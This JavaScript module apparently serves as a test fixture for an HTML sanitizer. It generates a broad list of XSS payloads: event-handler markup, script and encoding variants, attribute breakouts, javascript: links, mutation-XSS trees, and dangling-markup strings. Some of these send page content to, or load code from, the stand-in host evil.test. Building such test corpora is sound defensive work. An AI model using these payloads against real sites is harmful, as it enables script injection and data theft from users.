/**
 * Markup that runs code where it is parsed, in every way that the cheat sheets of filter evasion have a class for.
 * Written for these tests. Whatever runs calls `alert`, `confirm`, `prompt` or `print`, or asks for something.
 */

/** Events that need no reader, and the markup that fires them. */
const events = [
  ['load', 'body svg style iframe link img script'],
  ['error', 'img video audio object script link source image body'],
  ['loadstart', 'video audio'],
  [
    'canplay durationchange loadeddata loadedmetadata play playing timeupdate ended progress suspend',
    'video audio',
  ],
  ['focus focusin', 'input button textarea select a svg div details'],
  ['blur focusout', 'input'],
  ['toggle', 'details dialog div'],
  ['beforetoggle', 'div'],
  ['animationstart animationend animationiteration animationcancel', 'b'],
  ['transitionrun transitionstart transitionend transitioncancel', 'b'],
  ['webkitanimationstart webkitanimationend webkittransitionend', 'b'],
  ['begin end repeat', 'animate set animateTransform animateMotion'],
  ['start finish bounce', 'marquee'],
  ['pageshow pagehide hashchange popstate message messageerror storage unhandledrejection', 'body'],
  ['beforeunload unload beforeprint afterprint resize scroll scrollend', 'body'],
  ['contentvisibilityautostatechange beforematch securitypolicyviolation', 'div'],
  ['scrollsnapchange scrollsnapchanging', 'div'],
];

/** Events that need one. */
const actions =
  'click dblclick auxclick contextmenu mousedown mouseup mousemove mouseover mouseout mouseenter mouseleave wheel ' +
  'pointerdown pointerup pointermove pointerover pointerrawupdate touchstart touchmove touchend keydown keyup keypress ' +
  'copy cut paste beforecopy beforecut beforepaste drag dragstart dragend dragenter dragover dragleave drop change ' +
  'input beforeinput invalid reset submit select selectstart selectionchange search volumechange seeked seeking pause ' +
  'ratechange fullscreenchange webkitfullscreenchange command cancel close gesturestart afterscriptexecute';

const handlers = [
  ...events.flatMap(([names, tags]) =>
    names.split(' ').flatMap((name) => tags.split(' ').map((tag) => [name, tag])),
  ),
  ...actions.split(' ').map((name) => [name, 'xss tabindex=1 contenteditable']),
].map(
  ([name, tag]) => `<${tag} src=x href=x autofocus open style="animation:x 1s" on${name}=alert(1)>x</${tag}>`,
);

const scripts = [
  '<script>alert(1)</script>',
  '<SCRIPT>alert(1)</SCRIPT >',
  '<script/x>alert(1)</script>',
  '<script\n>alert(1)</script\t>',
  '<script src=//evil.test/x.js></script>',
  '<script src="data:text/javascript,alert(1)"></script>',
  '<script type=module>alert(1)</script>',
  '<script type=module>import "data:text/javascript,alert(1)"</script>',
  '<script type=importmap>{"imports":{"lit":"data:text/javascript,alert(1)"}}</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script>alert(1)//',
  '<script x=">" y>alert(1)</script>',
  '<svg><script>alert&lpar;1)</script>',
  '<svg><script href="data:text/javascript,alert(1)"/>',
  '<svg><script xlink:href=data:,alert(1) />',
  '<math><script>alert(1)</script></math>',
  '<script language=vbscript>MsgBox 1</script>',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '\u00bcscript\u00bealert(1)\u00bc/script\u00be',
];

/** What closes the quotation marks, the attribute or the element that a template has put it into. */
const breakouts = [
  ...['"', "'", '`', '"`', '">', "'>", '`>', '-->', '--!>', ']]>', '*/', '</style>', '</script>', '</title>'],
  ...[
    '</textarea>',
    '</template>',
    '</noscript>',
    '</iframe>',
    '</xmp>',
    '</select>',
    '</svg>',
    '</math>',
    '?>',
    '%>',
  ],
].flatMap((end) => [`${end}<img src=x onerror=alert(1)>`, `${end} autofocus onfocus=alert(1) x=${end}`]);

const links = ['a href', 'area href', 'form action', 'button formaction', 'input type=image formaction']
  .concat(['iframe src', 'embed src', 'object data', 'frame src', 'base href', 'link rel=stylesheet href'])
  .concat([
    'svg><a xlink:href',
    'math href',
    'math><mi xlink:href',
    'svg><use href',
    'svg><image href',
    'a ping',
  ])
  .concat([
    'video poster',
    'img src',
    'img srcset',
    'input src',
    'body background',
    'table background',
    'bgsound src',
  ])
  .concat([
    'isindex action',
    'layer src',
    'applet code',
    'portal src',
    'meta http-equiv=refresh content',
    'track src',
  ])
  .flatMap((start) => [
    `<${start}="javascript:alert(1)">x`,
    `<${start}=" &#1;j&Tab;avascript&colon;alert(1)">x`,
    `<${start}="data:text/html,<script>alert(1)</script>">x`,
  ]);

const frames = [
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;"></iframe>',
  '<iframe src="about:blank" onload="alert(1)"></iframe>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<meta http-equiv=Content-Security-Policy content="script-src *">',
  '<meta http-equiv=set-cookie content="x=<script>alert(1)</script>">',
  '<base href="//evil.test/">',
  '<base target="<script>alert(1)</script>">',
  '<link rel=import href="data:text/html,<script>alert(1)</script>">',
  '<link rel=prefetch href=//evil.test>',
  '<form id=x></form><button form=x formaction=javascript:alert(1)>x',
];

const styles = [
  '<style>@import "//evil.test/x.css";</style>',
  '<style>*{background:url(//evil.test)}</style>',
  '<style>@keyframes x{}</style><b style="animation:x" onanimationend=alert(1)>',
  '<p style="background:url(javascript:alert(1))">',
  '<p style="width:expression(alert(1))">',
  '<p style="-moz-binding:url(//evil.test/x.xml#x)">',
  '<p style="behavior:url(//evil.test/x.htc)">',
  '<style><!--</style><img src=x onerror=alert(1)>--></style>',
  '<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>',
  '<link rel=stylesheet href="data:text/css,*{x:expression(alert(1))}">',
];

/** Trees that change when they are written down and parsed again. */
const mutating = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  '<math><annotation-xml encoding="text/html"><xmp>&lt;/xmp&gt;&lt;img src=x onerror=alert(1)&gt;</xmp></annotation-xml>',
  '<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe></foreignObject></svg>',
  '<select><template><style></select><img src=x onerror=alert(1)></style></template></select>',
  '<table><td><a><table><img src=x onerror=alert(1)></table></a></td></table>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  '<div><template shadowrootmode=open><slot></slot><script>alert(1)</script></template></div>',
  '<p is="x-y" onclick=alert(1)><![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><?xml-stylesheet href="javascript:alert(1)"?>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!DOCTYPE x [<!ENTITY y "<img src=x onerror=alert(1)>">]>&y;',
  '<a/onclick=alert(1)/x>x',
  '<x\u0000y onclick=alert(1)>',
  '<img\u0000src=x\u0000onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x:x onerror\u000c=\u000balert(1)>',
  '<img """><script>alert(1)</script>">',
  '<IMG SRC=x OnErRoR=&#97&#108&#101&#114&#116(1)>',
  '<svg><animate href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a>',
  '<svg><set href=#x attributeName=onmouseover to=alert(1) />',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><a href=javascript:alert(1) /></svg>#x">',
  '<svg><handler type="text/javascript" ev:event="load">alert(1)</handler>',
  '<object type="text/html" data="data:text/html,<script>alert(1)</script>"></object>',
  '<article-footnote open onclick=alert(1)><img src=x onerror=alert(1)></article-footnote>',
  '<article-enhance selector=body></article-enhance>',
];

/** Markup that takes what follows along, or hides it. */
const dangling = [
  '<img src="//evil.test/?',
  "<img src='//evil.test/?",
  '<base target="',
  '<textarea>',
  '<plaintext>',
  '<!--',
]
  .concat([
    '<a href=//evil.test/?x="',
    '<form action=//evil.test><textarea name=x>',
    "<button name=x value='",
    '<title>',
  ])
  .concat([
    '<style>',
    '<xmp>',
    '<select><option>',
    '<table background="//evil.test/?',
    '<iframe src="//evil.test/?',
    '<x',
  ]);

export const markup = [
  ...new Set([
    ...scripts,
    ...handlers,
    ...breakouts,
    ...links,
    ...frames,
    ...styles,
    ...mutating,
    ...dangling,
  ]),
];
